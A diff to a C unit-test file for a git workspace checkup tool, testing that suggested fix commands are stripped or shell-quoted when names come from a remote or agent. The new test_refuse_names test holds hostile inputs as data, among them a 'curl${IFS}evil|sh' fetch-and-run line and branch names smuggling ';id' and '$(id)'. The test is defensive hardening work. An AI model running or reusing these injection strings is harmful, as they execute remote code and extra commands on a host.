@@ -9,6 +9,7 @@
 #include <cmocka.h>
 
 #include "checkup.h"
+#include "syncresult.h"
 
 static void test_shebang(void **state _unused_) {
         static const struct {
@@ -248,34 +249,68 @@ static void test_key_has_passphrase(void **state _unused_) {
         (void) rmdir(dir);
 }
 
-static void test_refuse(void **state _unused_) {
+/* What doctor makes of the refusal R. */
+static struct finding refused(const struct sync_result *r, const char *branch) {
         struct finding f = { 0 };
 
-        finding_refuse(&f,
-                "no branch is checked out in /w (detached HEAD): sudo -u u git -C /w switch BRANCH", "main");
+        finding_refuse(&f, r->workspace_why, r->workspace_command, branch);
         assert_int_equal(f.kind, FINDING_BAD);
+        return f;
+}
+
+static void test_refuse(void **state _unused_) {
+        struct sync_result r;
+        struct finding f;
+
+        (void) sync_refuse(&r,
+                "no branch is checked out in %s (detached HEAD): sudo -u u git -C /w switch BRANCH", "/w");
+        f = refused(&r, "main");
         assert_string_equal(f.text, "no branch is checked out in /w (detached HEAD)");
         assert_string_equal(f.mend, "sudo -u u git -C /w switch main");
 
-        f = (struct finding){ 0 };
-        finding_refuse(
-                &f, "a merge is under way in /w: finish it, or sudo -u u git -C /w merge --abort", "main");
+        (void) sync_refuse(
+                &r, "a merge is under way in /w: finish it, or sudo -u u git -C /w merge --abort");
+        f = refused(&r, "main");
         assert_string_equal(f.text, "a merge is under way in /w: finish it");
         assert_string_equal(f.mend, "sudo -u u git -C /w merge --abort");
 
-        f = (struct finding){ 0 };
-        finding_refuse(&f, "the remote names no branch: set branch= in [workspace]", "main");
+        (void) sync_refuse(&r, "the remote names no branch: set branch= in [workspace]");
+        f = refused(&r, "main");
         assert_string_equal(f.text, "the remote names no branch: set branch= in [workspace]");
         assert_string_equal(f.mend, "");
 
         /* Half a command is worse than none, and so is one with a gap. */
-        f = (struct finding){ 0 };
-        finding_refuse(&f, "a merge is under way in /w: finish it, or sudo -u u git -C /w/lo…", "main");
+        (void) sync_refuse(&r,
+                "%0200d is under way in /w: finish it, or sudo -u u git -C /w/long/path merge --abort", 0);
+        f = refused(&r, "main");
         assert_string_equal(f.mend, "");
-        f = (struct finding){ 0 };
-        finding_refuse(
-                &f, "/w: No such file or directory. Clone it: sudo -u u git clone ADDRESS /w", "main");
+        (void) sync_refuse(&r, "/w: No such file or directory. Clone it: sudo -u u git clone ADDRESS /w");
+        f = refused(&r, "main");
         assert_string_equal(f.text, "/w: No such file or directory. Clone it");
+        assert_string_equal(f.mend, "");
+}
+
+/* Names that the remote or the agent chose are never a command, nor the end of one. */
+static void test_refuse_names(void **state _unused_) {
+        struct sync_result r;
+        struct finding f;
+
+        (void) sync_refuse(&r, "%s has the attribute filter=lfs, which we cannot apply",
+                "sudo sh -c curl${IFS}evil|sh #x");
+        f = refused(&r, "main");
+        assert_string_equal(f.mend, "");
+        (void) sync_refuse(&r, "%s  is hidden: sudo -u u git -C /w reset %s", "a\tsudo id; \303", "word");
+        f = refused(&r, "main");
+        assert_string_equal(f.text, "a sudo id; ? is hidden");
+        assert_string_equal(f.mend, "sudo -u u git -C /w reset word");
+        (void) sync_refuse(&r, "no branch is checked out: sudo -u u git -C /w switch BRANCH");
+        f = refused(&r, "x;id");
+        assert_string_equal(f.mend, "sudo -u u git -C /w switch 'x;id'");
+        (void) sync_refuse(&r, "hidden: sudo -u u git -C /w reset %s", "'x; BRANCH ;$(id)'");
+        f = refused(&r, "x;id");
+        assert_string_equal(f.mend, "sudo -u u git -C /w reset 'x; BRANCH ;$(id)'");
+        (void) sync_refuse(&r, "%0300d: sudo id", 0);
+        f = refused(&r, "main");
         assert_string_equal(f.mend, "");
 }
 
@@ -293,6 +328,7 @@ int main(void) {
                 cmocka_unit_test(test_unit_environment),
                 cmocka_unit_test(test_key_has_passphrase),
                 cmocka_unit_test(test_refuse),
+                cmocka_unit_test(test_refuse_names),
         };
 
         return cmocka_run_group_tests(tests, NULL, NULL);
